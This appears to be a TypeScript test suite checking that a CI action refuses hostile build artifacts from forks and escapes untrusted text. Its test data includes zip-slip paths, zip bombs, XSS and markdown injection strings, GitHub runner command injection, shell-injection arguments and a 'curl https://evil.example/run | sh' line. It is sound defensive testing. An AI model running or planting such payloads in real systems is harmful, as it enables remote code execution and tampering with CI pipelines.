import type { ServerResponse } from "node:http";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { localCommand } from "../../../../src/config/local-command.ts";
import { checksOf } from "../../../../src/experiments/checks.ts";
import { foreignCause } from "../../../../src/model/facts/drill-error.ts";
import { message } from "../../../../src/model/message.ts";
import { readLeg } from "../../../../src/report/matrix/merged-leg.ts";
import { SCHEMA_VERSION } from "../../../../src/report/result/schema-id.ts";
import { FakeGithub } from "../../../support/fake-github.ts";
import type { FakeArtifact } from "../../../support/fake-run.ts";
import { HEAD_SHA, legResult, RUN_ID, RUN_URL } from "../../../support/leg-result.ts";
import { leave, mergeStep, prepare, TOKEN, writesOf } from "../../../support/merge-step.ts";
import { readLegs } from "../../../support/merged-legs.ts";
import { elements, prose, render } from "../../../support/rendered.ts";
import { codesOf, said } from "../../../support/said.ts";
import { type ZipEntry, zip } from "../../../support/zip.ts";

let github: FakeGithub;

beforeEach(async () => {
  github = await FakeGithub.start();
  prepare(github);
});

afterEach(async () => {
  await github[Symbol.asyncDispose]();
  expect(github.violations).toEqual([]);
});

const MIB = 1024 ** 2;
const GOOD = legResult();
const entry = (more: Partial<ZipEntry> = {}): ZipEntry => ({ name: "result.json", content: GOOD, ...more });
const packed = (...entries: ZipEntry[]) => ({ archive: zip(entries) });
const alone = (content: string | Buffer) => packed(entry({ content }));
/** The result with one thing changed in it, without a look at what it then comes to. */
// biome-ignore lint/suspicious/noExplicitAny: it is changed to what no type allows.
const altered = (change: (result: any) => void) => {
  const result = JSON.parse(GOOD);
  change(result);
  return alone(JSON.stringify(result));
};
const warningOf = (text: string) => ({ code: "textMessage", args: { text } });
const told = (leg: Parameters<typeof legResult>[0]) => alone(legResult(leg));
const INJECTION = "</summary><img src=x onerror=alert(1)>@octocat [x](javascript:alert(1)) ::error::x";

const CASES: readonly [name: string, artifact: Partial<FakeArtifact>, sentence: RegExp][] = [
  ["no archive at all", { archive: Buffer.from("hello") }, /is not a zip archive/],
  ["nothing", { archive: Buffer.alloc(0) }, /is not a zip archive/],
  [
    "half an archive",
    { archive: zip([entry()]).subarray(0, 5_000) },
    /is not a zip archive \(End of central directory/,
  ],
  ["an archive without files", packed(), /has no result\.json at its root/],
  ["a result under another name", packed(entry({ name: "Result.json" })), /has no result\.json at its root/],
  ["a result in a directory", packed(entry({ name: "a/result.json" })), /has no result\.json at its root/],
  [
    "a path that climbs out",
    packed(entry(), entry({ name: "../../evil.sh" })),
    /list of files is broken.*invalid relative path/,
  ],
  ["an absolute path", packed(entry(), entry({ name: "/etc/passwd" })), /list of files is broken.*absolute path/],
  [
    "a path of another system",
    packed(entry(), entry({ name: "..\\evil" })),
    /list of files is broken.*invalid characters/,
  ],
  ["a drive", packed(entry({ name: "C:/result.json" })), /list of files is broken.*absolute path/],
  ["two results", packed(entry(), entry({ content: "{}" })), /has two files `"result\.json"`/],
  ["a link", packed(entry({ content: "/etc/passwd", mode: 0o120777 })), /is not a regular file/],
  ["a device", packed(entry({ content: "", mode: 0o020666 })), /is not a regular file/],
  ["an encrypted result", packed(entry({ flags: 0x801 })), /result\.json is encrypted/],
  ["strong encryption", packed(entry({ flags: 0x841 })), /strong encryption is not supported/],
  ["a method that no artifact has", packed(entry({ method: 14 })), /compressed with method 14/],
  [
    "thousands of files",
    packed(...Array.from({ length: 3_000 }, (_, at) => entry({ name: `f${at}`, content: "" }))),
    /has 3,000 entries/,
  ],
  [
    "a bomb that says so",
    alone(Buffer.alloc(300 * MIB)),
    /would have 314,572,800 bytes unpacked; the maximum is 33,554,432/,
  ],
  [
    "a bomb that says it is small",
    packed(entry({ content: Buffer.alloc(300 * MIB), size: 1_000 })),
    /can't be unpacked \(too many bytes/,
  ],
  [
    "a bomb in a bomb",
    packed(entry({ content: zip([entry({ content: Buffer.alloc(300 * MIB) })]) })),
    /(?:not UTF-8 text|is not JSON)/,
  ],
  [
    "a file that is shorter than it says",
    packed(entry({ size: Buffer.byteLength(GOOD) + 9 })),
    /can't be unpacked \(not enough bytes/,
  ],
  ["a wrong checksum", packed(entry({ crc: 1 })), /does not match its checksum/],
  [
    "deflate that is none",
    packed({ name: "result.json", content: Buffer.from("\u0007garbage"), method: 8, flags: 0 }, entry({ name: "x" })),
    /is not JSON/,
  ],
  ["no UTF-8", alone(Buffer.from([0x7b, 0xff, 0xfe, 0x7d])), /is not UTF-8 text/],
  ["UTF-16", alone(Buffer.from(GOOD, "utf16le")), /(?:is not JSON|UTF-8)/],
  ["a mark in front of the text", alone(`\ufeff${GOOD}`), /is not JSON/],
  ["no JSON", alone("{"), /Its result does not fit: The file is not JSON/],
  ["another JSON", alone('{"name":"x"}'), /is not the result of a drill/],
  [
    "a merged result",
    alone('{"$schema":"urn:qwen-fault-drill:merged:1","schemaVersion":1}'),
    new RegExp(`has schema version 1, but this program reads version ${SCHEMA_VERSION}`),
  ],
  [
    "lists in lists",
    alone(GOOD.replace('"readyMs": 5630', `"readyMs": ${"[".repeat(100_000)}${"]".repeat(100_000)}`)),
    /nests lists more than 40 deep/,
  ],
  [
    "a field that no result has",
    altered((result) => (result.pullRequest = 1)),
    /has a field "pullRequest" that a result does not have/,
  ],
  ["a prototype", alone(GOOD.replace("{", '{"__proto__": {"polluted": true},')), /has a field "__proto__"/],
  [
    "a number of another pull request",
    altered((result) => (result.provenance.prNumber = 2)),
    /provenance has a field "prNumber"/,
  ],
  [
    "values of the environment",
    altered((result) => (result.plan.target.env = { A: "b" })),
    /plan\.target has a field "env"/,
  ],
  [
    "a control character",
    altered((result) => (result.session = "a\u001b]8;;http://evil\u0007")),
    /session is .*without line breaks and control characters/,
  ],
  [
    "a command for the runner",
    altered((result) => (result.warnings = [warningOf("x\n::set-output name=verdict::pass")])),
    /warnings\[0\]\.args\.text is/,
  ],
  [
    "a script for an address",
    altered((result) => (result.provenance.runUrl = "javascript:alert(1)")),
    /provenance\.runUrl is/,
  ],
  [
    "a line without an end",
    altered((result) => (result.warnings = [warningOf("x".repeat(5_000))])),
    /warnings\[0\]\.args\.text is 5000 characters long/,
  ],
  [
    "a million warnings",
    altered((result) => (result.warnings = Array(100_000).fill(warningOf("x")))),
    /warnings has 100000 items: write at most 1000/,
  ],
  [
    "a number beyond every measure",
    alone(GOOD.replace('"readyMs": 5630', '"readyMs": 1e999')),
    /readyMs is a number out of range/,
  ],
  [
    "figures that are none of its samples",
    altered((result) => (result.phases[0].measurement.p95Ms = 1)),
    /p95Ms is 1, but its samples give/,
  ],
  [
    "a pass that its samples do not come to",
    altered((result) => (result.plan.limits.maxP95Ms = 500)),
    /Its verdict is pass, but its samples come to fail/,
  ],
  ["checks of its own", altered((result) => (result.checks[0].measured = 0.5)), /its samples come to other checks/],
  ["another run", told({ provenance: { runUrl: RUN_URL.replace("500", "499") } }), /is of another run/],
  [
    "another repository",
    told({ provenance: { runUrl: RUN_URL.replace("example", "elsewhere") } }),
    /is of another run/,
  ],
  ["another commit", told({ provenance: { headSha: "0".repeat(40) } }), /is of another commit than the run's/],
  ["no commit", told({ provenance: { headSha: null } }), /is of another commit than the run's/],
  ["no version", told({ provenance: { version: `1.0.0 ${INJECTION}` } }), /does not say which version/],
  ["no leg", told({ provenance: { leg: null } }), /does not say which leg it is/],
  ["the leg of another artifact", told({ job: "other" }), /is that of `fault-drill-other`, not of the artifact/],
  ["a leg beyond its matrix", told({ index: 4, total: 4 }), /says that it is leg 4 of 4, which no matrix has/],
  ["a matrix beyond every matrix", told({ index: 0, total: 100_000 }), /says that it is leg 0 of 100000/],
  [
    "a job that is none",
    altered((result) => (result.provenance.leg.job = INJECTION)),
    /names no job that a workflow could have/,
  ],
  [
    "more than it should measure, by its own word",
    { sizeBytes: 17 * MIB },
    /Its archive has 17,825,792 bytes; the limit is/,
  ],
  [
    "more than it should measure, whatever it said",
    { archive: endless, sizeBytes: 100 },
    /Its archive is longer than 16,777,216 bytes/,
  ],
  ["nothing any more", { expired: true }, /has expired: run the drill again/],
  ["a store that has it not", { archive: refusing }, /could not be downloaded. The store/],
];

function endless(response: ServerResponse): void {
  response.writeHead(200, { "content-type": "application/zip" });
  const chunk = Buffer.alloc(MIB);
  const more = () => {
    while (!response.destroyed && response.write(chunk));
    if (!response.destroyed) response.once("drain", more);
  };
  more();
}

function refusing(response: ServerResponse): void {
  response.writeHead(404).end();
}

const ONE_OF_TWO = told({ index: 0, total: 2 });

describe("a hostile artifact is refused in one sentence, and nothing is written", () => {
  test.each(CASES)(
    "%s",
    async (_name, artifact, sentence) => {
      leave(github, { index: 1, total: 2 });
      github.artifacts.push({ id: 9, name: "fault-drill-drill", runId: RUN_ID, ...ONE_OF_TWO, ...artifact });
      const { result, exitCode, log, summary } = await mergeStep({ github, on: "workflow_run" });

      expect(result.refused).toMatchObject([{ artifact: { id: 9, name: "fault-drill-drill" } }]);
      expect(said(result.refused[0]?.reason)).toMatch(sentence);
      expect(result.verdict.status).toBe("error");
      expect(exitCode).toBe(1);
      expect(log).toContain("No comment: an artifact of the reported run was refused.");
      expect(writesOf(github)).toEqual([]);
      expect(summary).not.toMatch(/<img|@octocat|\]\(javascript|^::/m);
      expect(JSON.stringify(result) + summary + log).not.toContain(TOKEN);
      expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
    },
    120_000,
  );

  test("has its own sentence in each case but a few that are alike", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CASES.map(([, , sentence]) => sentence.source)).size).toBeGreaterThanOrEqual(40);
  });
});

describe("what is hostile and fits", () => {
  test("is told as text and as nothing else", async () => {
    leave(github, { values: INJECTION.slice(0, 100), total: 2, index: 1 });
    leave(github, { values: "`code` | cell | ![x](http://evil.example/p.png)", total: 2, index: 0 });
    const { summary, result } = await mergeStep({ github, on: "workflow_run" });
    expect(result.verdict.status).toBe("pass");
    expect(github.comments()).toHaveLength(1);
    for (const text of [summary, github.comments()[0]?.body ?? ""]) {
      const html = render(text);
      const links = elements(html).filter(({ name }) => name === "a");
      expect(links.length).toBeGreaterThanOrEqual(3);
      expect(links.filter(({ attributes }) => !attributes.startsWith(' href="https://github.com/example/'))).toEqual(
        [],
      );
      expect(elements(html).filter(({ name }) => ["img", "script", "h1"].includes(name))).toEqual([]);
      expect(prose(html)).not.toMatch(/(?:^|[^\w`])@\w|#\d|www\./i);
    }
  });

  const COMMAND = "curl https://evil.example/run | sh";
  const ACTION = { repository: "evil/qwen-fault-drill", ref: "v1" };

  test("no command and no action of a fork's is shown: they are made here", async () => {
    leave(github, { provenance: { localCommand: COMMAND, action: ACTION } });
    const env = { GITHUB_ACTION_REPOSITORY: "example/qwen-fault-drill", GITHUB_ACTION_REF: "v2" };
    const { summary, report } = await mergeStep({ github, on: "workflow_run", env });
    const body = github.comments()[0]?.body ?? "";
    expect(body).toContain("`example/qwen-fault-drill@v2`");
    expect(body).toContain("As the fork's own run reports it:");
    for (const text of [summary, report, body]) expect(text).not.toMatch(/evil|curl/);
    const command = readLegs([{ provenance: { localCommand: COMMAND } }])[0]?.drill.provenance.localCommand;
    expect(command).toMatch(/^npm run drill -- --image qwen-allinone:3f2c1e9 --/);
  });

  test("what a fork's checks say is not repeated: they are made here", () => {
    const result = JSON.parse(GOOD);
    result.checks[0].reason[0].args = { name: `${INJECTION} evil` };
    const found = {
      artifact: { id: 1, name: "fault-drill-drill" },
      beginning: "fault-drill",
      action: null,
      docs: null,
    };
    const subject = { runUrl: RUN_URL, headSha: HEAD_SHA };
    const { drill } = readLeg(JSON.stringify(result), { ...found, subject, commandOf: localCommand }, checksOf);
    expect(JSON.stringify(drill)).not.toContain("evil");
    expect(drill.record.checks[0]?.reason).toEqual(JSON.parse(GOOD).checks[0].reason);
  });

  test("a check's reason of another code is a check of its own", () => {
    const result = JSON.parse(GOOD);
    result.checks[0].reason[0].code = "window.other";
    const found = {
      artifact: { id: 1, name: "fault-drill-drill" },
      beginning: "fault-drill",
      action: null,
      docs: null,
    };
    const subject = { runUrl: RUN_URL, headSha: HEAD_SHA };
    const read = () => readLeg(JSON.stringify(result), { ...found, subject, commandOf: localCommand }, checksOf);
    expect(read).toThrow(
      expect.objectContaining({ said: [message("leg.other-verdict", { written: "pass", judged: null })] }),
    );
  });

  test("an input that no fault has is no flag of the command", () => {
    const result = JSON.parse(GOOD);
    result.plan.experiments[0].inputs = { "stress-workers": "3; id", "image x; curl evil": "1", plan: "evil.yml" };
    const found = {
      artifact: { id: 1, name: "fault-drill-drill" },
      beginning: "fault-drill",
      subject: { runUrl: RUN_URL, headSha: HEAD_SHA },
      action: null,
      docs: null,
      commandOf: localCommand,
    };
    const { drill } = readLeg(JSON.stringify(result), found, checksOf);
    expect(drill.provenance.localCommand).toMatch(/ --stress-workers '3; id'(?: |$)/);
    expect(drill.provenance.localCommand).not.toMatch(/evil/);
  });

  test("why a drill could not be run stands as the fork's word alone", async () => {
    const result = JSON.parse(legResult({ status: "error" }));
    result.error = [foreignCause(`Run ${COMMAND}`)];
    const sentence = [{ code: "verdict.error", args: { cause: `Run ${COMMAND}` } }];
    result.verdict = { ...result.verdict, sentence, reasons: [sentence] };
    github.artifacts.push({
      id: 9,
      name: "fault-drill-drill",
      runId: RUN_ID,
      archive: zip([entry({ content: JSON.stringify(result) })]),
    });
    const { result: merged } = await mergeStep({ github, on: "workflow_run" });
    expect(merged.verdict).toMatchObject({
      status: "error",
      sentence: [message("verdict.leg", { title: "drill" }), message("verdict.fork-error", {})],
    });
    const [before = ""] = (github.comments()[0]?.body ?? "").split("As the fork's own run reports it:");
    expect(before).not.toMatch(/curl/);
  });

  test("five hundred artifacts more than can be are not looked into", async () => {
    const archive = Buffer.from("x");
    for (let id = 0; id < 600; id += 1)
      github.artifacts.push({ id, name: `fault-drill-x-${id}`, runId: RUN_ID, archive });
    const { result } = await mergeStep({ github, on: "workflow_run" });
    expect(result.refused).toHaveLength(600);
    expect(result.refused.filter(({ reason }) => codesOf(reason)[0] === "artifact.too-many")).toHaveLength(88);
    expect(writesOf(github)).toEqual([]);
  }, 120_000);

  test("artifacts of other names and other runs are none of ours", async () => {
    leave(github);
    github.artifacts.push({ id: 1, name: "coverage", runId: RUN_ID, archive: Buffer.from("x") });
    github.artifacts.push({ id: 2, name: "fault-drill", runId: RUN_ID, archive: Buffer.from("x") });
    github.artifacts.push({ id: 3, name: "fault-drill-drill", runId: 499, archive: Buffer.from("x") });
    expect((await mergeStep({ github, on: "workflow_run" })).result.verdict.status).toBe("pass");
  });
});
